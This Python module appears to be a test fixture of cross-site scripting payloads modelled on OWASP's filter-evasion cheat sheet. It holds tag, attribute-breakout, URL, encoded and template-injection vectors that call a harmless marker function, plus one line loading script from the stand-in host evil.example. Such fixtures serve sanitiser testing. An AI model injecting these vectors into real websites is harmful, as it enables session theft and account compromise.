"""Texts that become a program wherever a page forgets to say that they are text.

Written after the kinds that OWASP's cheat sheet on evading filters lists: tags, attributes,
addresses, comments, broken nesting, other alphabets, templates. Each would call ``hit()`` or leave
an element of the class ``hit``.
"""

_TAGS = (
    "<script>hit()</script>",
    "<ScRiPt class=hit>hit()</sCrIpT>",
    "<script class=hit src=data:text/javascript,hit()></script>",
    "<script class=hit>/*</script><script>hit()//",
    "<<script class=hit>hit();//<</script>",
    "<script\x0bclass=hit>hit()</script>",
    "</script><script class=hit>hit()</script>",
    "<img class=hit src=x onerror=hit()>",
    "<img class=hit src=x:x onerror=window['hit']()>",
    "<img/class=hit/src=x/onerror=hit()>",
    '<IMG """><SCRIPT class=hit>hit()</SCRIPT>">',
    "<svg class=hit onload=hit()>",
    "<svg class=hit><script>hit()</script></svg>",
    "<svg class=hit><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg class=hit><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<math class=hit><mtext><img src=x onerror=hit()></mtext></math>",
    "<body class=hit onload=hit()>",
    "<iframe class=hit srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe class=hit src=javascript:parent.hit()></iframe>",
    "<object class=hit data=javascript:hit()></object>",
    "<embed class=hit src=javascript:hit()>",
    "<details class=hit open ontoggle=hit()>",
    "<video class=hit><source onerror=hit()></video>",
    "<audio class=hit src=x onerror=hit()>",
    "<input class=hit autofocus onfocus=hit()>",
    "<select class=hit autofocus onfocus=hit()>",
    "<textarea class=hit autofocus onfocus=hit()>",
    "<marquee class=hit onstart=hit()>",
    "<meta class=hit http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base class=hit href=javascript:hit()//>",
    "<link class=hit rel=stylesheet href=data:text/css,*{color:red}>",
    "<style class=hit>*{background:url(javascript:hit())}</style>",
    "<form class=hit action=javascript:hit()><button autofocus>x</button></form>",
    "<template class=hit><img src=x onerror=hit()></template>",
)
_BREAKING_OUT = (
    '" class=hit onfocus=hit() autofocus x="',
    "' class=hit onfocus=hit() autofocus x='",
    '"><img class=hit src=x onerror=hit()>',
    "'><img class=hit src=x onerror=hit()>",
    "--><img class=hit src=x onerror=hit()><!--",
    "</title><img class=hit src=x onerror=hit()>",
    "</textarea><img class=hit src=x onerror=hit()>",
    "</select><img class=hit src=x onerror=hit()>",
    "</style><img class=hit src=x onerror=hit()>",
    "]]><img class=hit src=x onerror=hit()>",
    "`><img class=hit src=x onerror=hit()>",
    '"><div class=hit hx-get=/ hx-trigger=load>',
    '"><div class=hit data-hx-on:load=hit()>',
    "x onmouseover=hit() style=position:fixed;inset:0",
)
_ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "data:text/html,<script class=hit>hit()</script>",
    "//evil.example/x.js",
)
_ENCODED = (
    "&lt;script class=hit&gt;hit()&lt;/script&gt;",
    "&#60;img class=hit src=x onerror=hit()&#62;",
    "%3Cimg class=hit src=x onerror=hit()%3E",
    "\\u003cimg class=hit src=x onerror=hit()\\u003e",
    "\uff1cimg class=hit src=x onerror=hit()\uff1e",
    "{{constructor.constructor('hit()')()}}",
    "{% include 'x' %}${hit()}#{hit()}<%= hit() %>",
)
PAYLOADS = (*_TAGS, *_BREAKING_OUT, *_ADDRESSES, *_ENCODED)
